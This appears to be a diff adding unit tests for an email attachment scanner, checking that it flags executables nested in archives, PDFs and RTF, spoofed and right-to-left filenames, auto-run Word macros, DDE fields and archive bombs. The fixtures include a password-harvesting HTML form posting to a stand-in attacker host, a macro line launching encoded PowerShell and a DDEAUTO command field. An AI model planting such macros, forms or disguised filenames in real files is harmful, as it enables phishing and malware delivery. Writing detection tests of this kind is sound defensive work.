@@ -1,0 +1,107 @@
+"""Files in archives and documents, as the checks judge them."""
+
+import pytest
+
+from lazaretto.scan.checks.attachments import check
+from tests.helpers.letters import File, judged, letter, rules_of, seen
+from tests.unit.mail.files import CONTENT_TYPES, zip_of
+from tests.unit.mail.packed import PASSWORD, archive
+from tests.unit.mail.test_embedded import note_of, package_of, rtf_of
+from tests.unit.mail.test_pdf import carrying
+from tests.unit.mail.test_vba import packed
+
+EXE = b"MZ" + bytes(200)
+JS = b"var s = new ActiveXObject('WScript.Shell'); function go() { s.Run('calc'); } eval(go());\n"
+LOGIN = b"<html><body><form action='http://evil.test/'><input type=password name=p></form></body></html>"
+MACRO = zip_of(
+    CONTENT_TYPES | {"word/vbaProject.bin": packed(b'Sub AutoOpen()\r\n Shell "powershell -enc x"')}
+)
+
+
+def found(name, data):
+    return seen(check, letter(attachments=[File(name, data)]))
+
+
+@pytest.mark.parametrize(
+    ("name", "data", "rule", "path"),
+    [
+        ("a.zip", zip_of({"b.zip": zip_of({"run.exe": EXE})}), "archive_holds_program", "a.zip/b.zip/run.exe"),
+        ("a.7z", archive("seven_lzma"), "archive_holds_program", "a.7z/a/inner.exe"),
+        ("a.iso", archive("iso_joliet"), "archive_holds_program", "a.iso/A long folder/inner.exe"),
+        ("n.one", note_of(EXE), "archive_holds_program", "n.one/file 1"),
+        ("r.rtf", rtf_of(b"Package", package_of(b"run.exe", EXE)), "archive_holds_program", "r.rtf/run.exe"),
+        ("p.pdf", carrying("run.exe", EXE), "archive_holds_program", "p.pdf/run.exe"),
+        ("a.zip", zip_of({"report.pdf": EXE}), "attachment_type_lies", "a.zip/report.pdf"),
+        ("a.zip", zip_of({"report.pdf.exe": EXE}), "attachment_double_extension", "a.zip/report.pdf.exe"),
+        ("a.zip", zip_of({"invoice\u202efdp.exe": EXE}), "attachment_rtl_name", "a.zip/invoice\u202efdp.exe"),
+        ("a.zip", zip_of({"p.html": LOGIN}), "attachment_html_password", "a.zip/p.html"),
+        ("a.zip", zip_of({"d.docm": MACRO}), "attachment_macro_odd", "a.zip/d.docm"),
+    ],
+)  # fmt: skip
+def test_dangerous_inner_files(name, data, rule, path):
+    """What is inside is judged, and the finding names its path."""
+    files = [f for f in list(check(letter(attachments=[File(name, data)]), None, None)) if f.rule == rule]
+
+    assert path in {f.attachment for f in files}
+
+
+@pytest.mark.parametrize(
+    ("name", "data"),
+    [
+        ("src.zip", zip_of({f"s{i}.js": JS for i in range(30)})),
+        ("src.zip", zip_of({"main.c": JS, "readme.txt": b"hello"})),
+        ("page.zip", zip_of({"p.html": LOGIN, "a.css": b"a", "b.css": b"b", "c.css": b"c"})),
+        ("photos.zip", zip_of({f"{i}.jpg": b"\xff\xd8\xff\xe0" + bytes(90) for i in range(9)})),
+    ],
+    ids=["scripts", "source", "saved page", "photos"],
+)
+def test_harmless_inner_files(name, data):
+    """Source code, saved pages and photographs come in archives every day."""
+    rules = {f.rule for f in check(letter(attachments=[File(name, data)]), None, None)}
+
+    assert not rules - {"attachment_message"}
+
+
+def test_locked_archive_whose_password_is_given():
+    """The password of the letter opened it, and a program came out."""
+    verdict = judged(
+        letter(
+            text=f"The password is {PASSWORD}",
+            attachments=[File("a.zip", archive("zip_aes256"), "application/zip")],
+        )
+    )
+
+    assert {"attachment_password_in_text", "archive_holds_program", "password_opens_danger"} <= rules_of(
+        verdict
+    )
+    assert "MALICIOUS" == verdict.disposition
+
+
+def test_macros_that_act():
+    """They run by themselves and start a program."""
+    assert {"attachment_macro", "attachment_macro_auto", "attachment_macro_odd"} <= set(
+        found("d.docm", MACRO)
+    )
+    assert "macro_that_acts" in rules_of(judged(letter(attachments=[File("d.docm", MACRO)])))
+
+
+@pytest.mark.parametrize(
+    ("name", "data", "rule"),
+    [
+        ("a.7z", archive("seven_zeros"), "archive_bomb"),
+        (
+            "a.zip",
+            zip_of({"1.zip": zip_of({"2.zip": zip_of({"3.zip": zip_of({"a": b"b"})})})}),
+            "archive_too_deep",
+        ),
+        (
+            "a.docx",
+            zip_of(CONTENT_TYPES | {"word/document.xml": b"<w:instrText>DDEAUTO c:\\cmd</w:instrText>"}),
+            "attachment_dde",
+        ),
+        ("a.xlsm", zip_of(CONTENT_TYPES | {"xl/macrosheets/s.xml": b"x"}), "attachment_macro_sheet"),
+    ],
+)
+def test_limits_and_fields_are_findings(name, data, rule):
+    """A limit that was reached is said; so is a field that starts a program."""
+    assert rule in found(name, data)
